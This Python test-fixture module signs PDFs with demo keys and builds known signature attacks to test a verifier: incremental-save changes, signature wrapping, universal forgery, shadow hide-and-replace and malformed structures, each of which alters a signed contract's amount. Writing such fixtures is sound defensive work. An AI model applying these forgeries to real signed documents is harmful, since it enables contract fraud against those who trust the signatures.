"""Signed PDFs and known attacks on them, built for the verification tests.

Signing goes through pyHanko with a soft key certified by a demo root CA; the attacks use
pypdf incremental updates or byte edits that keep every offset in place. Each attack is
named after the paper that described it (Mladenov et al., "1 Trillion Dollar Refund", 2019;
Mainka et al., "Shadow Attacks", 2021).
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from unittest import mock

import pymupdf
from asn1crypto import core as asn1_core
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from PIL import Image, ImageDraw
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.images import PdfImage
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.signers import pdf_signer
from pyhanko.sign.timestamps import DummyTimeStamper
from pyhanko.stamp import TextStampStyle
from pyhanko_certvalidator import ValidationContext
from pyhanko_certvalidator.registry import SimpleCertificateStore
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
)

from sealdesk.signing.demo_pki import (
    CertificateAuthority,
    UnitIdentity,
    issue_unit_certificate,
    make_root_ca,
)

UNIT = UnitIdentity(
    name="上海测试科技有限公司", credit_code="91310000132149237G", entity_id="E1", device_id="D1"
)


@dataclass(frozen=True)
class SigningIdentity:
    """A soft EC P-256 key, its unit certificate and the root that issued it."""

    ca: CertificateAuthority
    key: ec.EllipticCurvePrivateKey
    cert_der: bytes

    @property
    def root_der(self) -> bytes:
        return self.ca.certificate_der


def make_identity(
    ca: CertificateAuthority | None = None,
    *,
    unit: UnitIdentity = UNIT,
    crl_url: str | None = None,
    expired: bool = False,
) -> SigningIdentity:
    """A unit certificate from ``ca`` (a fresh root when None).

    ``crl_url`` adds a CRL distribution point; ``expired`` makes a certificate whose
    validity ended yesterday (for signatures that claim a time in the past).
    """
    ca = ca or make_root_ca("SealDesk Test Root")
    key = ec.generate_private_key(ec.SECP256R1())
    spki = key.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    der = issue_unit_certificate(ca, public_key_der=spki, unit=unit, key_label="签章")
    if crl_url or expired:
        cert = x509.load_der_x509_certificate(der)
        now = dt.datetime.now(dt.UTC)
        builder = (
            x509.CertificateBuilder()
            .subject_name(cert.subject)
            .issuer_name(cert.issuer)
            .public_key(key.public_key())
            .serial_number(cert.serial_number)
            .not_valid_before(now - dt.timedelta(days=30) if expired else cert.not_valid_before_utc)
            .not_valid_after(now - dt.timedelta(days=1) if expired else cert.not_valid_after_utc)
        )
        for ext in cert.extensions:
            builder = builder.add_extension(ext.value, critical=ext.critical)
        if crl_url:
            builder = builder.add_extension(
                x509.CRLDistributionPoints(
                    [
                        x509.DistributionPoint(
                            full_name=[x509.UniformResourceIdentifier(crl_url)],
                            relative_name=None,
                            reasons=None,
                            crl_issuer=None,
                        )
                    ]
                ),
                critical=False,
            )
        der = builder.sign(ca.key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
    return SigningIdentity(ca=ca, key=key, cert_der=der)


@dataclass(frozen=True)
class TimestampAuthority:
    """A soft time-stamping authority certified by a root (RSA: pyHanko's test TSA is
    RSA-only)."""

    key: rsa.RSAPrivateKey
    cert_der: bytes


def make_tsa(ca: CertificateAuthority) -> TimestampAuthority:
    """A TSA certificate (extended key usage timeStamping, critical) from ``ca``."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Test TSA")]))
        .issuer_name(ca.certificate.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=365))
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(
            x509.ExtendedKeyUsage([x509.ExtendedKeyUsageOID.TIME_STAMPING]), critical=True
        )
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, False, False, False, False),
            critical=True,
        )
        .sign(ca.key, hashes.SHA256())
    )
    return TimestampAuthority(key=key, cert_der=cert.public_bytes(serialization.Encoding.DER))


def _asn1_key(key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey) -> asn1_keys.PrivateKeyInfo:
    return asn1_keys.PrivateKeyInfo.load(
        key.private_bytes(
            serialization.Encoding.DER,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )


def make_crl(ca: CertificateAuthority, revoked: Sequence[tuple[bytes, dt.datetime]] = ()) -> bytes:
    """A CRL of ``ca`` revoking (certificate DER, revocation time) pairs, DER."""
    now = dt.datetime.now(dt.UTC)
    builder = (
        x509.CertificateRevocationListBuilder()
        .issuer_name(ca.certificate.subject)
        .last_update(now - dt.timedelta(days=2))
        .next_update(now + dt.timedelta(days=7))
    )
    for cert_der, when in revoked:
        serial = x509.load_der_x509_certificate(cert_der).serial_number
        builder = builder.add_revoked_certificate(
            x509.RevokedCertificateBuilder().serial_number(serial).revocation_date(when).build()
        )
    return builder.sign(ca.key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)


def make_pdf(text: str = "Contract: the buyer pays 100 EUR.", *, pages: int = 1) -> bytes:
    """A small PDF made by PyMuPDF."""
    doc = pymupdf.open()
    for n in range(pages):
        page = doc.new_page()
        page.insert_text((72, 100), f"{text} (page {n + 1})", fontsize=14)
    data: bytes = doc.tobytes()
    doc.close()
    return data


def seal_png(size: int = 96) -> bytes:
    """A red ring, like a seal picture."""
    img = Image.new("RGBA", (size, size), (255, 255, 255, 0))
    ImageDraw.Draw(img).ellipse((4, 4, size - 4, size - 4), outline=(220, 0, 0, 255), width=6)
    out = io.BytesIO()
    img.save(out, "PNG")
    return out.getvalue()


@contextmanager
def _extra_sig_keys(extra: dict[str, str]) -> Iterator[None]:
    """Add keys to the signature dictionary pyHanko writes (as SealDesk's signer will)."""
    original = pdf_signer.SignatureObject

    class _SignatureObject(original):  # type: ignore[misc,valid-type]
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            for key, value in extra.items():
                self[generic.NameObject(key)] = generic.TextStringObject(value)

    with mock.patch.object(pdf_signer, "SignatureObject", _SignatureObject):
        yield


def sign(
    data: bytes,
    identity: SigningIdentity,
    *,
    field: str = "Sig1",
    box: tuple[int, int, int, int] | None = (350, 600, 450, 700),
    page: int = 0,
    name: str | None = None,
    seal_name: str | None = None,
    reason: str | None = None,
    image: bytes | None = None,
    certify: bool = False,
    locked: bool = False,
    embed_crl: bytes | None = None,
    tsa: TimestampAuthority | None = None,
    timestamp_at: dt.datetime | None = None,
    password: str | None = None,
) -> bytes:
    """``data`` signed incrementally with a new signature field (PAdES, SHA-256)."""
    cert = asn1_x509.Certificate.load(identity.cert_der)
    root = asn1_x509.Certificate.load(identity.root_der)
    key = _asn1_key(identity.key)
    signer = signers.SimpleSigner(
        signing_cert=cert,
        signing_key=key,
        cert_registry=SimpleCertificateStore.from_certs([root]),
    )
    meta_kwargs: dict[str, Any] = {}
    if embed_crl is not None:
        meta_kwargs.update(
            embed_validation_info=True,
            validation_context=ValidationContext(
                trust_roots=[root], crls=[embed_crl], allow_fetching=False
            ),
        )
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        name=name,
        reason=reason,
        certify=certify or locked,
        **({"docmdp_permissions": fields.MDPPerm.NO_CHANGES} if locked else {}),
        subfilter=fields.SigSeedSubFilter.PADES,
        **meta_kwargs,
    )
    style = None
    if image is not None:
        style = TextStampStyle(
            stamp_text="",
            background=PdfImage(Image.open(io.BytesIO(image))),
            background_opacity=1,
            border_width=0,
        )
    timestamper = None
    if tsa is not None:
        timestamper = DummyTimeStamper(
            tsa_cert=asn1_x509.Certificate.load(tsa.cert_der),
            tsa_key=_asn1_key(tsa.key),
            certs_to_embed=SimpleCertificateStore.from_certs([root]),
            fixed_dt=timestamp_at,
        )
    pdf_signer_obj = signers.PdfSigner(
        meta,
        signer=signer,
        timestamper=timestamper,
        stamp_style=style,
        new_field_spec=fields.SigFieldSpec(field, on_page=page, box=box),
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    if password is not None:
        writer.encrypt(password)
    extra = {"/SealDesk.SealName": seal_name} if seal_name else {}
    with _extra_sig_keys(extra):
        out = pdf_signer_obj.sign_pdf(writer)
    result: bytes = out.getvalue()
    return result


def add_document_timestamp(data: bytes, tsa: TimestampAuthority, root_der: bytes) -> bytes:
    """A document timestamp (PAdES-LTA style /DocTimeStamp) in a new revision."""
    timestamper = DummyTimeStamper(
        tsa_cert=asn1_x509.Certificate.load(tsa.cert_der),
        tsa_key=_asn1_key(tsa.key),
        certs_to_embed=SimpleCertificateStore.from_certs([asn1_x509.Certificate.load(root_der)]),
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    out = signers.PdfTimeStamper(timestamper).timestamp_pdf(writer, md_algorithm="sha256")
    result: bytes = out.getvalue()
    return result


# --- helpers for byte-level edits ------------------------------------------------------------


def _last_sig_positions(data: bytes) -> tuple[int, int, int, int]:
    """Where the last signature dictionary's ByteRange array (with the spaces pyHanko pads it
    with) and its /Contents hex string (with the angle brackets) are: (start, end) each."""
    br = list(re.finditer(rb"/ByteRange\s*(\[[^\]]*\] *)", data))[-1]
    contents = list(re.finditer(rb"/Contents\s*(<[0-9A-Fa-f]*>)", data))[-1]
    return br.start(1), br.end(1), contents.start(1), contents.end(1)


def _byte_range(data: bytes) -> list[int]:
    start, end, _lt, _gt = _last_sig_positions(data)
    return [int(v) for v in data[start:end].strip().strip(b"[]").split()]


def _set_byte_range(data: bytes, values: list[int]) -> bytes:
    """Overwrite the last ByteRange in place, padded to its old width."""
    start, end, _lt, _gt = _last_sig_positions(data)
    text = ("[" + " ".join(str(v) for v in values) + "]").encode()
    if len(text) > end - start:
        raise ValueError("new ByteRange does not fit")
    return data[:start] + text.ljust(end - start) + data[end:]


def _set_contents_hex(data: bytes, hex_digits: bytes) -> bytes:
    """Overwrite the last /Contents hex string in place, padded with zeros."""
    _s, _e, lt, gt = _last_sig_positions(data)
    width = gt - lt - 2
    if len(hex_digits) > width:
        raise ValueError("signature does not fit")
    return data[: lt + 1] + hex_digits.ljust(width, b"0") + data[gt - 1 :]


# --- incremental saving attack (ISA) ---------------------------------------------------------


def incremental_content_change(
    signed: bytes, new_text: str = "the buyer pays 1000000 EUR"
) -> bytes:
    """A later revision replaces the first page's content stream."""
    writer = PdfWriter(io.BytesIO(signed), incremental=True)
    page = writer.pages[0]
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 14 Tf 72 692 Td ({new_text}) Tj ET".encode())
    ref = writer._add_object(stream)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    resources = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    page[NameObject("/Contents")] = ref
    page[NameObject("/Resources")] = resources
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_annotation(signed: bytes) -> bytes:
    """A later revision adds a sticky note to the first page (allowed after an approval
    signature, not after a certification that only permits form filling)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    note = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Text"),
            generic.pdf_name("/Rect"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (50, 550, 80, 580)]
            ),
            generic.pdf_name("/Contents"): generic.TextStringObject("审阅意见"),
            generic.pdf_name("/P"): page_ref,
        }
    )
    note_ref = writer.add_object(note)
    annots = page.get("/Annots")
    if annots is None:
        page["/Annots"] = generic.ArrayObject([note_ref])
    else:
        annots.get_object().append(note_ref)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            writer.update_container(annots)
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def incremental_page_added(signed: bytes) -> bytes:
    """A later revision adds a page."""
    writer = PdfWriter(io.BytesIO(signed), incremental=True)
    writer.add_blank_page()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def appended_garbage_revision(signed: bytes) -> bytes:
    """An object redefinition appended after %%EOF with no xref: a viewer that rebuilds the
    cross-reference table (as many do for damaged files) shows the new object."""
    page_ref = PdfReader(io.BytesIO(signed)).pages[0].indirect_reference
    assert page_ref is not None
    tail = (
        b"\n99 0 obj\n<< /Length 44 >>\nstream\nBT /F1 14 Tf 72 692 Td (PAY 1000000) Tj ET\n"
        b"endstream\nendobj\n"
    )
    return signed + tail


# --- cross-reference structures readers disagree on ------------------------------------------


def hybrid_xref(data: bytes) -> bytes:
    """``data`` with an update as Word writes them: a classic xref section whose trailer points
    (/XRefStm) at an xref stream, which readers of PDF 1.4 ignore and newer ones follow."""
    start = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    stream_at = len(data)
    entry = bytes([1]) + stream_at.to_bytes(2, "big") + bytes([0])
    body = (
        data
        + b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 1]/Index[%d 1]/Length 4>>\nstream\n"
        % (size, size + 1, size)
        + entry
        + b"\nendstream\nendobj\n"
    )
    table_at = len(body)
    return body + (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size %d/Root %s/Prev %d/XRefStm %d>>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size + 1, root, start, stream_at, table_at)
    )


def attachments_encrypted(data: bytes, password: str) -> bytes:
    """``data`` with an attachment, encrypted as some producers do: only embedded files
    (an /EFF crypt filter); pages and strings stay plain (/Identity)."""
    from pyhanko.pdf_utils import embed
    from pyhanko.pdf_utils.crypt.api import IDENTITY, CryptFilterConfiguration
    from pyhanko.pdf_utils.crypt.standard import StandardAESCryptFilter
    from pyhanko.pdf_utils.generic import NameObject
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(data)))
    only_files = CryptFilterConfiguration(
        {NameObject("/StdCF"): StandardAESCryptFilter(keylen=32)},
        default_stream_filter=IDENTITY,
        default_string_filter=IDENTITY,
        default_file_filter=NameObject("/StdCF"),
    )
    writer.encrypt(password, password, crypt_filter_config=only_files, pdf_mac=False)
    attachment = embed.EmbeddedFileObject.from_file_data(
        writer, data=b"annex", mime_type="text/plain"
    )
    embed.embed_file(writer, embed.FileSpec(file_spec_string="annex.txt", embedded_data=attachment))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def damaged_xref(data: bytes) -> bytes:
    """``data`` whose trailer declares fewer objects than its xref table holds: only a reader
    that repairs the table reads it (strict pyHanko refuses it)."""
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    return data.replace(b"/Size %d" % size, b"/Size %d" % (size - 1))


# --- signature wrapping attack (SWA) ---------------------------------------------------------


def _xref_table(entries: dict[int, int]) -> bytes:
    """A classic xref section for object number → offset (generation 0)."""
    numbers = sorted(entries)
    out = [b"xref\n"]
    run: list[int] = []
    for n in [*numbers, -1]:
        if run and n != run[-1] + 1:
            out.append(f"{run[0]} {len(run)}\n".encode())
            out.extend(f"{entries[m]:010d} 00000 n \n".encode() for m in run)
            run = []
        if n >= 0:
            run.append(n)
    return b"".join(out)


def wrapping_relocated_block(signed: bytes) -> bytes:
    """The classic SWA, keeping the digest right: the second signed block moves back to
    make room for an object the attacker injects (here a new content stream for the first
    page), and a new revision redefines the signature dictionary with a ByteRange that points
    at the moved block. The bytes the ByteRange selects are exactly the signed ones."""
    _a, b, c, d = _byte_range(signed)
    reader = PdfReader(io.BytesIO(signed))
    contents = reader.pages[0]["/Contents"]
    content_ref = contents[0] if isinstance(contents, list) else contents
    content_num = (
        content_ref.indirect_reference.idnum
        if hasattr(content_ref, "indirect_reference") and content_ref.indirect_reference
        else content_ref.idnum
    )
    stream = b"BT /F1 14 Tf 72 692 Td (the buyer pays 1000000 EUR) Tj ET"
    payload = (
        f"\n{content_num} 0 obj\n<< /Length {len(stream)} >>\nstream\n".encode()
        + stream
        + b"\nendstream\nendobj\n"
    )
    shift = len(payload)
    forged = signed[:c] + payload + signed[c:]
    # the signed revision's last xref section (in the moved block) and its entries
    xref_at = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    sig_num = int(re.findall(rb"(\d+) 0 obj\s*<<\s*/Contents\s*<", signed)[-1])
    sig_start = signed.rfind(f"{sig_num} 0 obj".encode(), 0, c)
    sig_end = signed.index(b"endobj", c) + len(b"endobj")
    sig_text = signed[sig_start:sig_end]
    old_range = re.search(rb"/ByteRange\s*\[[^\]]*\]", sig_text)
    assert old_range is not None
    sig_text = (
        sig_text[: old_range.start()]
        + f"/ByteRange [0 {b} {c + shift} {d}]".encode()
        + sig_text[old_range.end() :]
    )
    moved = {
        int(num): int(off) + shift for off, num in _xref_offsets(signed[xref_at:]) if int(off) >= c
    }
    revision = b"\n"
    entries = dict(moved)
    entries[content_num] = c + 1  # the payload starts after its newline
    entries[sig_num] = len(forged) + len(revision)
    revision += sig_text + b"\n"
    trailer = re.search(rb"trailer\s*<<(.*?)>>\s*startxref", signed[xref_at:], re.S)
    assert trailer is not None
    body = re.sub(rb"/Prev\s+\d+", b"", trailer.group(1))
    new_xref_at = len(forged) + len(revision)
    revision += _xref_table(entries)
    revision += b"trailer\n<<" + body + f"/Prev {xref_at + shift}\n>>\n".encode()
    revision += f"startxref\n{new_xref_at}\n%%EOF\n".encode()
    return forged + revision


def _xref_offsets(section: bytes) -> list[tuple[bytes, int]]:
    """(offset, object number) of the in-use entries of the xref table at the start of
    ``section``."""
    table = section[: section.index(b"trailer")]
    out = []
    number = 0
    for line in table.splitlines()[1:]:
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
            continue
        if len(parts) == 3:
            if parts[2] == b"n":
                out.append((parts[0], number))
            number += 1
    return out


def wrapping_gap(signed: bytes) -> bytes:
    """ByteRange leaves a gap bigger than /Contents: bytes in it are not signed."""
    a, b, c, d = _byte_range(signed)
    return _set_byte_range(signed, [a, b - 20, c, d])


def wrapping_short_range(signed: bytes) -> bytes:
    """ByteRange stops before the end of its revision and the uncovered part is altered
    (the producer name in the XMP metadata)."""
    a, b, c, _d = _byte_range(signed)
    at = signed.index(b"pyHanko", c)
    edited = _set_byte_range(signed, [a, b, c, at - c])
    return edited[:at] + b"Attackr" + edited[at + len(b"pyHanko") :]


def wrapping_contents_moved(signed: bytes) -> bytes:
    """ByteRange shifted so that the gap no longer matches /Contents: the hashed ranges
    include the signature value and leave out signed dictionary bytes."""
    a, b, c, d = _byte_range(signed)
    width = c - b
    return _set_byte_range(signed, [a, b - width, c - width, d + width])


# --- universal signature forgery (USF) -------------------------------------------------------


def forgery_empty_contents(signed: bytes) -> bytes:
    """/Contents <> (padded with spaces so the offsets stay)."""
    _s, _e, lt, gt = _last_sig_positions(signed)
    return signed[:lt] + b"<>".ljust(gt - lt) + signed[gt:]


def forgery_zero_contents(signed: bytes) -> bytes:
    """/Contents <000...0> of the same length."""
    return _set_contents_hex(signed, b"")


def forgery_no_byte_range(signed: bytes) -> bytes:
    """/ByteRange renamed so that the signature has none."""
    at = signed.rfind(b"/ByteRange")
    return signed[:at] + b"/ByteRangX" + signed[at + len(b"/ByteRange") :]


def forgery_null_byte_range(signed: bytes) -> bytes:
    """/ByteRange [0 0 0 0]."""
    return _set_byte_range(signed, [0, 0, 0, 0])


def forgery_malformed_byte_range(signed: bytes) -> bytes:
    """/ByteRange with a negative length and a number too many."""
    a, b, c, d = _byte_range(signed)
    return _set_byte_range(signed, [a, -b, c, d, 7])


def forgery_foreign_signature(signed: bytes, other_signed: bytes) -> bytes:
    """/Contents copied from another document signed by the same key."""
    _s, _e, lt, gt = _last_sig_positions(other_signed)
    der = bytes.fromhex(other_signed[lt + 1 : gt - 1].decode())
    length = asn1_core.load(der, strict=False).dump()  # the DER without the zero padding
    return _set_contents_hex(signed, length.hex().encode())


# --- shadow attacks --------------------------------------------------------------------------


def _page_ref(writer: PdfWriter) -> Any:
    return writer.pages[0].indirect_reference


def shadow_prepare(data: bytes) -> tuple[bytes, dict[str, int]]:
    """The attacker's document before signing: it carries, unused, an overlay form XObject
    (hides the text), a replacement content stream and a second catalog with another page.

    Returns the document and the object numbers of the shadow objects.
    """
    writer = PdfWriter(clone_from=io.BytesIO(data))
    page = writer.pages[0]
    # hide: a white box over the text, drawn only once the page's content says so
    overlay = DecodedStreamObject()
    overlay.set_data(b"1 1 1 rg 0 0 612 842 re f")
    overlay.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): ArrayObject([NumberObject(v) for v in (0, 0, 612, 842)]),
        }
    )
    overlay_ref = writer._add_object(overlay)
    resources = page.get("/Resources")
    resources = resources.get_object() if resources is not None else DictionaryObject()
    xobjects = resources.get("/XObject")
    xobjects = xobjects.get_object() if xobjects is not None else DictionaryObject()
    xobjects[NameObject("/Shadow")] = overlay_ref
    resources[NameObject("/XObject")] = xobjects
    page[NameObject("/Resources")] = resources
    # the content that draws the overlay after the original content, unused for now
    original = page["/Contents"]
    original_refs = list(original) if isinstance(original.get_object(), list) else [original]
    draw = DecodedStreamObject()
    draw.set_data(b"q /Shadow Do Q")
    draw_ref = writer._add_object(draw)
    hidden_contents = writer._add_object(ArrayObject([*original_refs, draw_ref]))
    # replace: a content stream with other text
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    xobjects[NameObject("/FShadow")] = writer._add_object(font)  # keep the font reachable
    replacement = DecodedStreamObject()
    replacement.set_data(b"BT /FShadow 14 Tf 72 692 Td (the buyer pays 1000000 EUR) Tj ET")
    replacement_ref = writer._add_object(replacement)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue(), {
        "hide": hidden_contents.idnum,
        "replace": replacement_ref.idnum,
    }


def _set_page_contents(signed: bytes, obj_num: int) -> bytes:
    writer = PdfWriter(io.BytesIO(signed), incremental=True)
    page = writer.pages[0]
    page[NameObject("/Contents")] = writer.get_object(obj_num).indirect_reference
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def shadow_hide(signed: bytes, shadow: dict[str, int]) -> bytes:
    """Hide: the page's /Contents now points at the prepared array that also draws the
    white overlay, so the signed text disappears."""
    return _set_page_contents(signed, shadow["hide"])


def shadow_replace(signed: bytes, shadow: dict[str, int]) -> bytes:
    """Replace: the page's /Contents now points at the prepared replacement stream."""
    return _set_page_contents(signed, shadow["replace"])


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """Hide-and-replace: a later revision swaps the whole page tree, keeping the signature
    field, so that a viewer shows a different document under the same signature."""
    writer = PdfWriter(io.BytesIO(signed), incremental=True)
    pages = writer.root_object["/Pages"].get_object()
    page = writer.pages[0]
    new_content = DecodedStreamObject()
    new_content.set_data(b"BT /F1 14 Tf 72 692 Td (a different contract) Tj ET")
    clone = DictionaryObject(dict(page.items()))
    clone[NameObject("/Contents")] = writer._add_object(new_content)
    clone_ref = writer._add_object(clone)
    pages[NameObject("/Kids")] = ArrayObject([clone_ref])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- hostile structures ----------------------------------------------------------------------


def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF written by hand from object bodies, with a correct xref table, for structures
    no library would write."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += f"{num} 0 obj\n".encode() + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    size = max(objects) + 1
    out += f"xref\n0 {size}\n".encode() + b"0000000000 65535 f \n"
    for num in range(1, size):
        if num in offsets:
            out += f"{offsets[num]:010d} 00000 n \n".encode()
        else:
            out += b"0000000000 65535 f \n"
    out += f"trailer\n<< /Size {size} /Root {root} 0 R >>\nstartxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)


def _minimal_page_objects() -> dict[int, bytes]:
    return {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    }


def hostile_deep_nesting(depth: int = 100_000) -> bytes:
    """The form's field list nested ``depth`` arrays deep."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields "
            + b"[" * depth
            + b"]" * depth
            + b" >> >>",
            **_minimal_page_objects(),
        }
    )


def hostile_field_loop() -> bytes:
    """Signature fields whose /Kids point back at their parent."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            **_minimal_page_objects(),
            4: b"<< /FT /Sig /T (A) /Kids [5 0 R] >>",
            5: b"<< /FT /Sig /T (B) /Parent 4 0 R /Kids [4 0 R] >>",
        }
    )


def hostile_signature_self_reference() -> bytes:
    """A signature field whose value is the field itself, and a ByteRange that refers to
    an object reference."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>",
            **_minimal_page_objects(),
            4: b"<< /FT /Sig /T (Sig1) /V 4 0 R /Type /Sig /SubFilter /ETSI.CAdES.detached "
            b"/Filter /Adobe.PPKLite /ByteRange 4 0 R /Contents <3080> >>",
        }
    )


def hostile_circular_pages() -> bytes:
    """A page tree whose node lists itself as a kid."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        }
    )
